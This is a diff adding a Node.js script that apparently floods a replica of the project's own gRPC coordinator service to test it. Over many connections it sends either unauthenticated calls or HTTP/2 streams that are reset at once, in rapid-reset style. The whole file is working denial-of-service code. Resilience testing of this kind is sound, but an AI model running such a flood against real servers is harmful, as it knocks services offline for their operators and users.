@@ -1,0 +1,90 @@
+// Attacks a replica from a process of its own: `node flood.mjs TARGET calls|resets CONNECTIONS MS`. `calls` are calls
+// without a token, at most 100 open on each connection. `resets` are streams that are reset at once. A closed connection
+// is opened again after 5 ms. Prints how many streams and connections it opened.
+import { connect } from 'node:net';
+import { setPriority } from 'node:os';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+// An attacker has machines of its own: it shall not win against the replica by taking the processor from it.
+setPriority(19);
+const [target, kind, connections, ms] = process.argv.slice(2);
+const [host, port] = target.split(':');
+const OPEN_MAX = 100;
+const untilMs = performance.now() + Number(ms);
+let opened = 0;
+let connected = 0;
+
+const frame = (type, flags, stream, body = Buffer.alloc(0)) => {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(body.byteLength, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, body]);
+};
+const text = (it) => Buffer.concat([Buffer.of(it.length), Buffer.from(it)]);
+const headers = Buffer.concat(
+  Object.entries({
+    ...{ ':method': 'POST', ':scheme': 'http', ':path': '/dibs.v1.CoordinatorService/GetOrLock' },
+    ...{ ':authority': 'dibs', 'content-type': 'application/grpc', te: 'trailers' },
+  }).map(([name, value]) => Buffer.concat([Buffer.of(0), text(name), text(value)])),
+);
+const message = Buffer.from('\0\0\0\0\x0a\x0a\x04shop\x12\x02aa', 'latin1');
+const reset = Buffer.of(0, 0, 0, 8);
+const streamOf = (stream) =>
+  kind === 'calls'
+    ? [frame(1, 4, stream, headers), frame(0, 1, stream, message)]
+    : [frame(1, 4, stream, headers), frame(3, 0, stream, reset)];
+
+/** How many streams a chunk of frames ends: by the flag, or by a reset. Frames do not always begin in it. */
+function counterOfEnds(onEnd) {
+  let rest = Buffer.alloc(0);
+  return (bytes) => {
+    rest = Buffer.concat([rest, bytes]);
+    while (rest.byteLength >= 9) {
+      const length = rest.readUIntBE(0, 3);
+      if (rest.byteLength < 9 + length) return;
+      if (rest[3] === 1 && (rest[4] & 1) === 1) onEnd();
+      rest = rest.subarray(9 + length);
+    }
+  };
+}
+
+async function flood() {
+  while (performance.now() < untilMs) {
+    const socket = connect({ host, port: Number(port) });
+    let isOpen = true;
+    let open = 0;
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      isOpen = false;
+    });
+    socket.on(
+      'data',
+      counterOfEnds(() => {
+        open -= 1;
+      }),
+    );
+    connected += 1;
+    socket.write(
+      Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0), frame(4, 1, 0)]),
+    );
+    for (let stream = 1; isOpen && performance.now() < untilMs; ) {
+      const frames = [];
+      for (let count = 0; count < OPEN_MAX && (kind === 'resets' || open < OPEN_MAX); count += 1) {
+        frames.push(...streamOf(stream));
+        stream += 2;
+        opened += 1;
+        if (kind === 'calls') open += 1;
+      }
+      if (frames.length > 0) socket.write(Buffer.concat(frames));
+      await sleep(1);
+    }
+    socket.destroy();
+    await sleep(5);
+  }
+}
+
+await Promise.all(Array.from({ length: Number(connections) }, flood));
+console.log(JSON.stringify({ opened, connected }));
+process.exit(0);
